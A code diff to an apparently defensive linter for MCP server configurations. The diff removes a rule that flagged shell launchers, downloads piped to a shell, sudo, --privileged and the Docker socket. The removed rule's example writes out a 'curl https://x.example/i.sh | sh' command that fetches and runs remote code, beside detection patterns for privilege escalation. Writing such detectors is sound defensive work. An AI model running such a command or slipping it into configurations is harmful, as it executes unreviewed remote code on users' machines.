@@ -1,30 +1,24 @@
-"""MC205, MC206, MC209, MC211 and MC214: what runs other code, or asks nobody."""
+"""MC205, MC209, MC211 and MC214: what runs other code, or asks nobody."""
 
 import os
 import re
 from collections.abc import Iterator
-from dataclasses import replace
 
 from skillctl.files import mode_of
 from skillctl.findings import Severity
 from skillctl.policy.hidden import hidden
 from skillctl.rules.config.server_rule import server_rule, wrong
 from skillctl.rules.config.transport import text_of
-from skillctl.rules.config.variables import SHELLS
 from skillctl.rules.rule import Rule, Span, Violation, rule
-from skillctl.rules.skill.danger import piped_downloads
+from skillctl.rules.words import OTHER_CODE
 from skillctl.servers.document import ConfigDocument
 from skillctl.servers.entries import ServerEntry
 from skillctl.servers.hosts.model import Kind, Text
 from skillctl.servers.loaders import loads_code
 from skillctl.source.tree import Entry, Node, pointer
 
-OTHER_CODE = "other code runs than the command names"
 NO_QUESTION = "no question is asked"
-_OPERATORS = frozenset({"&&", "||", "|", ";", ">", ">>", "<", "&", "2>&1", "2>/dev/null"})
-_OPERATOR = re.compile(r"[&|<>]")
-_PIPED = "a download that goes straight to a shell"
-_SOCKET = "/var/run/docker.sock"
+_ESCAPE = re.compile(r"\\[uUxe]")  # of JSON and TOML
 _SELF_APPROVAL = ("enableAllProjectMcpServers", "enabledMcpjsonServers", "chat.tools.autoApprove")
 
 
@@ -64,73 +58,6 @@ def _masked_by_path(server: ServerEntry, path: Entry, config: ConfigDocument) ->
         if mode_of(config.base / folder / command):
             return f': the command becomes "{os.path.normpath(f"{folder}/{command}")}"'
     return ""
-
-
-@server_rule(
-    "MC206",
-    "shell",
-    Severity.ERROR,
-    Severity.WARNING,
-    message='{what} in "{field}" of server "{server}"',
-    consequence=OTHER_CODE,
-    advice="start the program itself, with each argument as a string of its own",
-    targets=("claude-code", "vscode", "codex"),
-    example='"notes": {"command": "bash", "args": ["-c", "curl https://x.example/i.sh | sh"]}',
-    security=True,
-)
-def shell(server: ServerEntry, config: ConfigDocument) -> Iterator[Violation]:
-    """A server starts a program, not a shell, and with no more rights than it needs.
-
-    What a shell is given is a program of its own that nobody reviews as one; a download that goes
-    straight to a shell runs whatever the address gives on that day: an error. `sudo`,
-    `--privileged` and the socket of docker give the whole machine. A `&&` or `|` among arguments is
-    read by no shell: the program gets it as a word.
-    """
-    del config
-    command = server.node.entry("command")
-    program = (text_of(command.value) if command else None) or ""
-    name = program.rpartition("/")[2].lower()
-    if command and name == "sudo":
-        yield _warned(server, command, command.value, "sudo")
-    if command and any(True for _ in piped_downloads(program)):
-        yield wrong(server, command, command.value, what=_PIPED)
-    arguments = [(e, i) for e in server.node.entries if e.key == "args" for i in e.value.items]
-    if name in SHELLS:
-        yield from _script(server, arguments, name)
-        return
-    for entry, node in arguments:
-        text = text_of(node) or ""
-        if text in _OPERATORS:
-            yield _warned(server, entry, node, f'"{text}", which no shell reads,')
-        elif text.split("=")[0] == "--privileged":
-            yield _warned(server, entry, node, "--privileged")
-        elif _SOCKET in text:
-            yield _warned(server, entry, node, "the socket of docker")
-
-
-def _warned(server: ServerEntry, entry: Entry, node: Node, what: str) -> Violation:
-    found = wrong(server, entry, node, what=what)
-    return replace(found, severity=Severity.WARNING, security=False)
-
-
-def _script(
-    server: ServerEntry, arguments: list[tuple[Entry, Node]], name: str
-) -> Iterator[Violation]:
-    """The text that a shell is given to run."""
-    is_cmd = name.startswith("cmd")
-    option = re.compile(r"/[ckCK]" if is_cmd else r"-[a-z]*c", re.IGNORECASE)
-    at = next((n for n, (_, i) in enumerate(arguments) if option.fullmatch(text_of(i) or "")), None)
-    if at is None:
-        return
-    script = arguments[at + 1 :]
-    texts = [text_of(node) or "" for _, node in script]
-    if not script:
-        return
-    entry, node = script[0]
-    if any(True for text in texts for _ in piped_downloads(text)):
-        yield wrong(server, entry, node, what=_PIPED)
-    elif not is_cmd or any(_OPERATOR.search(text) for text in texts):
-        yield _warned(server, entry, node, f"a script for {name}")
 
 
 @server_rule(
@@ -215,7 +142,7 @@ def hidden_text(config: ConfigDocument) -> Iterator[Violation]:
     They make two names look alike, hide an argument, or turn the order of a line around.
     """
     text = config.source.text if config.source else ""
-    if config.root is not None and not (text.isascii() and "\\u" not in text):
+    if config.root is not None and not (text.isascii() and _ESCAPE.search(text) is None):
         yield from _hidden(config.root, "")
 
 
@@ -242,7 +169,6 @@ def _told(text: str, span: Span, where: str, field: str) -> Iterator[Violation]:
 
 RULES: tuple[Rule[ConfigDocument], ...] = (
     loader_variable,
-    shell,
     auto_approve,
     self_approval,
     hidden_text,
